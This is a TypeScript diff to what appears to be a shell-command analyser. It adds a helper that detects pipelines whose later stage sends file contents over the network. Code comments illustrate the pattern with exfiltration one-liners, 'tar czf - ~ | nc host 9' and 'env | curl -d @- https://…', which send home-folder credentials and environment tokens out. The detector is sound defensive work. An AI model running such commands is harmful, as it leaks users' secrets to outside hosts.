@@ -36,6 +36,48 @@ function dumpsEnvironment(command: SimpleCommand): boolean {
 	}
 }
 
+/** The later stage of the same pipe that sends what it reads over the network, if any (`… | nc host 9`). */
+export function networkSenderAfter(
+	command: SimpleCommand,
+	all: readonly SimpleCommand[],
+): SimpleCommand | undefined {
+	const pipeline = command.pipeline;
+	return pipeline
+		? all.find(
+				(other) =>
+					other.pipeline?.id === pipeline.id &&
+					other.pipeline.stage > pipeline.stage &&
+					other.origin === command.origin &&
+					NETWORK_SENDERS.has(programName(other.argv[0] ?? '')),
+			)
+		: undefined;
+}
+
+/**
+ * What a stage reads, when a later stage of its pipe sends its output over the network, is sent: `tar czf - ~ | nc
+ * host 9` sends the home folder (and every credential in it), where `tar czf home.tgz ~` only reads it.
+ */
+export function sentThroughPipe(
+	effects: readonly Effect[],
+	command: SimpleCommand,
+	all: readonly SimpleCommand[],
+): Effect[] {
+	const sender = effects.some((effect) => effect.kind === 'read' && effect.path !== undefined)
+		? networkSenderAfter(command, all)
+		: undefined;
+	return sender
+		? effects.map((effect) =>
+				effect.kind === 'read' && effect.path !== undefined
+					? {
+							...effect,
+							kind: 'send',
+							action: `${effect.action} and sends over the network (through \`${sender.text}\`)`,
+						}
+					: effect,
+			)
+		: [...effects];
+}
+
 /**
  * `env | curl -d @- https://…`: the whole environment, with every token in it, sent over the network by a later stage
  * of the same pipe. Printing the environment alone is everyday debugging and stays quiet.
@@ -45,17 +87,10 @@ export function environmentSent(
 	index: number,
 	all: readonly SimpleCommand[],
 ): Effect[] {
-	const pipeline = command.pipeline;
-	if (!pipeline || !dumpsEnvironment(command)) {
+	if (!dumpsEnvironment(command)) {
 		return [];
 	}
-	const sender = all.find(
-		(other) =>
-			other.pipeline?.id === pipeline.id &&
-			other.pipeline.stage > pipeline.stage &&
-			other.origin === command.origin &&
-			NETWORK_SENDERS.has(programName(other.argv[0] ?? '')),
-	);
+	const sender = networkSenderAfter(command, all);
 	return sender
 		? [
 				programCall(command, programName(command.argv[0] ?? ''), index).effect({
